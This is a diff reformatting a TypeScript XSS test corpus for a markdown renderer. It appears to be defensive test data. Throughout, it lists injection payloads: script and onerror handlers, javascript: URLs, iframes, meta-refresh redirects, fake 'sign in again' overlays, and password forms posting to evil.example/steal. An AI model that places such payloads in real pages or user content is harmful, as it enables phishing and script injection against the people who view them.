@@ -20,16 +20,28 @@ export const xssCorpus: readonly XssPayload[] = [
     markdown: '\\`<form action="https://evil.example/steal"><input name=password type=password><button>Sign in</button></form>`',
     shows: '<input name=password type=password>',
   },
-  { name: 'escaped backtick hides a meta refresh', markdown: '\\`<meta http-equiv="refresh" content="0;url=https://evil.example/">`', shows: '<meta http-equiv=' },
+  {
+    name: 'escaped backtick hides a meta refresh',
+    markdown: '\\`<meta http-equiv="refresh" content="0;url=https://evil.example/">`',
+    shows: '<meta http-equiv=',
+  },
   {
     name: 'escaped backtick hides a fixed overlay',
     markdown: '\\`<div style="position:fixed;inset:0;z-index:9999;background:#fff">Session expired. Sign in again.</div>`',
     shows: 'position:fixed',
   },
-  { name: 'escaped backtick hides an object', markdown: '\\`<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>`', shows: '<object' },
+  {
+    name: 'escaped backtick hides an object',
+    markdown: '\\`<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>`',
+    shows: '<object',
+  },
   { name: 'escaped backtick hides an embed', markdown: '\\`<embed src="https://evil.example/x.swf">`', shows: '<embed' },
   { name: 'escaped backtick hides a base', markdown: '\\`<base href="https://evil.example/">`', shows: '<base href=' },
-  { name: 'escaped backtick hides a stylesheet', markdown: '\\`<link rel="stylesheet" href="https://evil.example/x.css">`', shows: '<link rel=' },
+  {
+    name: 'escaped backtick hides a stylesheet',
+    markdown: '\\`<link rel="stylesheet" href="https://evil.example/x.css">`',
+    shows: '<link rel=',
+  },
   { name: 'double backslash before a backtick', markdown: '\\\\`<img src=x onerror=alert(1)>`', shows: 'onerror=alert(1)' },
   { name: 'escaped backtick at both ends', markdown: '\\`<iframe src="https://evil.example"></iframe>\\`', shows: '<iframe' },
   { name: 'code spans of different lengths', markdown: '``<script>` ``<img src=x onerror=alert(1)>' },
@@ -38,16 +50,29 @@ export const xssCorpus: readonly XssPayload[] = [
   // Fences: mismatched, nested, unclosed, with hostile info strings.
   {
     name: 'mismatched fence (~~~ then ```)',
-    markdown: '~~~\n```\n<form action="https://evil.example/steal"><input name=password></form>\n~~~\n<iframe src="https://evil.example"></iframe>',
+    markdown:
+      '~~~\n```\n<form action="https://evil.example/steal"><input name=password></form>\n~~~\n<iframe src="https://evil.example"></iframe>',
     shows: '<iframe',
   },
-  { name: 'mismatched fence (``` then ~~~)', markdown: '```\n~~~\n```\n<form action="https://evil.example"><input name=password></form>\n~~~', shows: '<form' },
-  { name: 'nested fences', markdown: '````md\n```html\n<script>alert(1)</script>\n```\n````\n<img src=x onerror=alert(1)>', shows: '<script>alert(1)</script>' },
+  {
+    name: 'mismatched fence (``` then ~~~)',
+    markdown: '```\n~~~\n```\n<form action="https://evil.example"><input name=password></form>\n~~~',
+    shows: '<form',
+  },
+  {
+    name: 'nested fences',
+    markdown: '````md\n```html\n<script>alert(1)</script>\n```\n````\n<img src=x onerror=alert(1)>',
+    shows: '<script>alert(1)</script>',
+  },
   { name: 'unclosed fence', markdown: '```\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>', shows: '<script>' },
   { name: 'short closing fence', markdown: '````\n<b>in</b>\n```\n<svg onload=alert(1)>', shows: '<svg onload=alert(1)>' },
   { name: 'HTML in a fence info string', markdown: '```<img src=x onerror=alert(1)>\ncode\n```', shows: 'code' },
   { name: 'attribute injection in a fence language', markdown: '```js" onmouseover="alert(1)\nconst a = 1;\n```', shows: 'const a = 1;' },
-  { name: 'indented code then HTML', markdown: '    <script>alert(1)</script>\n\n<img src=x onerror=alert(1)>', shows: '<script>alert(1)</script>' },
+  {
+    name: 'indented code then HTML',
+    markdown: '    <script>alert(1)</script>\n\n<img src=x onerror=alert(1)>',
+    shows: '<script>alert(1)</script>',
+  },
 
   // Raw HTML elements of every dangerous kind.
   { name: 'script', markdown: '<script>alert(1)</script>', shows: '<script>alert(1)</script>' },
@@ -58,9 +83,17 @@ export const xssCorpus: readonly XssPayload[] = [
   { name: 'iframe', markdown: '<iframe src="https://evil.example/"></iframe>', shows: '<iframe src=' },
   { name: 'iframe srcdoc', markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>', shows: 'srcdoc' },
   { name: 'style element', markdown: '<style>body{display:none}</style>', shows: '<style>' },
-  { name: 'style attribute overlay', markdown: '<p style="position:fixed;top:0;left:0;width:100%;height:100%">Verify your account</p>', shows: 'position:fixed' },
+  {
+    name: 'style attribute overlay',
+    markdown: '<p style="position:fixed;top:0;left:0;width:100%;height:100%">Verify your account</p>',
+    shows: 'position:fixed',
+  },
   { name: 'button formaction', markdown: '<button formaction="javascript:alert(1)">Continue</button>', shows: 'formaction' },
-  { name: 'form and submit', markdown: '<form action="https://evil.example/steal" method="post"><input type="submit" value="Sign in"></form>', shows: '<form action=' },
+  {
+    name: 'form and submit',
+    markdown: '<form action="https://evil.example/steal" method="post"><input type="submit" value="Sign in"></form>',
+    shows: '<form action=',
+  },
   { name: 'input autofocus onfocus', markdown: '<input autofocus onfocus=alert(1)>', shows: 'onfocus=alert(1)' },
   { name: 'textarea', markdown: '<textarea name="token">paste your token</textarea>', shows: '<textarea' },
   { name: 'select', markdown: '<select name="x"><option>a</option></select>', shows: '<select' },
@@ -86,7 +119,11 @@ export const xssCorpus: readonly XssPayload[] = [
   { name: 'double-encoded entities', markdown: '&amp;lt;script&amp;gt;alert(1)', shows: '&lt;script&gt;' },
 
   // HTML inside markdown structures.
-  { name: 'HTML in a table cell', markdown: '| a | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | <a href="javascript:alert(1)">x</a> |', shows: 'onerror' },
+  {
+    name: 'HTML in a table cell',
+    markdown: '| a | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | <a href="javascript:alert(1)">x</a> |',
+    shows: 'onerror',
+  },
   { name: 'HTML in a list', markdown: '- <form action="https://evil.example"><input name=p></form>\n- second', shows: '<form' },
   { name: 'HTML in a blockquote', markdown: '> <iframe src="https://evil.example"></iframe>\n> quoted', shows: '<iframe' },
   { name: 'HTML in a heading', markdown: '# <script>alert(1)</script>', shows: '<script>' },
